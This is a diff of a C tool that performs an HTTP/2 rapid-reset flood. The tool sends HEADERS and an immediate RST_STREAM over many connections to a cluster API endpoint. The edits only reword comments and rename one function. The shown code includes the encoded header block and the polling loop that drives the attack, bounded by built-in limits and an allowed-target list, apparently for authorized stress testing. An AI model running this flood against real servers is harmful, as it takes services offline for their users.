@@ -1,12 +1,14 @@
 /* reset TARGET MEGABYTES CONNECTIONS [--compact] [--seconds MOST] [--from ADDRESS]
  *
- * HTTP/2 rapid reset without a token: on each connection HEADERS (POST /ddp.v1.Cluster/ListJobs) and
- * RST_STREAM at once, stream after stream, until MEGABYTES in all were sent, the server closed every
- * connection, or MOST seconds (60) passed. What the server sends is read and dropped. --compact sends the
- * path once a connection and then its index, so a stream takes 32 bytes instead of some 120. A connection
- * that the server closes is not opened again. One JSON line at the end: bytes, streams, milliseconds,
- * connections closed by the server, GOAWAYs and RST_STREAMs heard. Bounded: 1,000 MB, 1,000 connections, 300
- * s; only the addresses of target.h. */
+ * HTTP/2 rapid reset without a token. Each connection sends HEADERS (POST /ddp.v1.Cluster/ListJobs) and an
+ * immediate RST_STREAM, stream after stream, until MEGABYTES were sent in total, the server has closed every
+ * connection, or MOST seconds (default 60) have passed. The server's data is read and dropped. A connection
+ * that the server closes is not opened again. --compact: sends the path once for each connection and then its
+ * index, so that a stream takes 32 bytes instead of about 120.
+ *
+ * Prints one JSON line at the end: bytes, streams, milliseconds, connections that the server closed, received
+ * GOAWAYs and RST_STREAMs. Limits: 1,000 MB, 1,000 connections, 300 s, only the targets that target.h allows.
+ * */
 #include <errno.h>
 #include <getopt.h>
 #include <poll.h>
@@ -34,7 +36,7 @@ struct resetter {
     size_t first, last;
     uint32_t stream;
     bool path_sent;
-    unsigned char head[FRAME_HEADER]; /* of the frame that is being read */
+    unsigned char head[FRAME_HEADER]; /* the header of the frame that is being received */
     size_t head_size, body_left;
     int fd;
 };
@@ -46,7 +48,7 @@ struct resets {
     int open;
 };
 
-/* ---- what is sent ---- */
+/* ---- sending */
 
 static void reset_put(struct resetter *r, const void *bytes, size_t size)
 {
@@ -69,8 +71,8 @@ static void reset_frame(struct resetter *r, size_t size, enum frame_type type, i
     reset_put(r, head, sizeof(head));
 }
 
-/* The header block, RFC 7541: 0x83 :method POST, 0x86 :scheme http; 0x04 a :path that is not indexed and 0x44
- * one that is, which 0xbe names from then on. */
+/* The header block (RFC 7541): 0x83 is :method POST, 0x86 is :scheme http, 0x04 a :path without indexing,
+ * 0x44 a :path with indexing, and 0xbe refers to that one from then on. */
 static void reset_headers(struct resetter *r, bool compact)
 {
     static const char whole[] = "\x83\x86\x04\x18" PATH "\x01\x09"
@@ -111,7 +113,7 @@ static void reset_fill(struct resets *all, struct resetter *r)
     }
 }
 
-/* ---- what is heard ---- */
+/* ---- receiving */
 
 static void reset_count_frame(struct resets *all, struct resetter *r)
 {
@@ -147,7 +149,7 @@ static void reset_end(struct resets *all, struct resetter *r)
     all->open--;
 }
 
-static void reset_hear(struct resets *all, struct resetter *r)
+static void reset_receive(struct resets *all, struct resetter *r)
 {
     unsigned char bytes[16384];
     ssize_t got = recv(r->fd, bytes, sizeof(bytes), 0);
@@ -173,7 +175,7 @@ static void reset_send(struct resets *all, struct resetter *r)
     }
 }
 
-/* ---- */
+/* ---- the attack */
 
 static void reset_open(struct resets *all, struct resetter *r)
 {
@@ -195,13 +197,14 @@ static void reset_run(struct resets *all, struct resetter *r, int count, int64_t
         exit(1);
     for (int i = 0; i < count; i++)
         reset_open(all, &r[i]);
+    /* poll waits at most 100 ms, so that the end is noticed when nothing moves */
     while (all->open && all->bytes < all->want && (now = target_now_ms()) < began + most_ms) {
         for (int i = 0; i < count; i++)
             fds[i] = (struct pollfd){.fd = r[i].fd, .events = POLLIN | POLLOUT};
         poll(fds, (nfds_t)count, 100);
         for (int i = 0; i < count; i++) {
             if (r[i].fd >= 0 && fds[i].revents & (POLLIN | POLLHUP | POLLERR))
-                reset_hear(all, &r[i]);
+                reset_receive(all, &r[i]);
             if (r[i].fd >= 0 && fds[i].revents & POLLOUT)
                 reset_send(all, &r[i]);
         }
@@ -221,7 +224,7 @@ static void reset_usage(void)
     exit(2);
 }
 
-/* "5.8": megabytes of a million bytes */
+/* Parses a number such as "5.8", in megabytes of a million bytes. */
 static int64_t reset_megabytes(const char *text)
 {
     char *end;
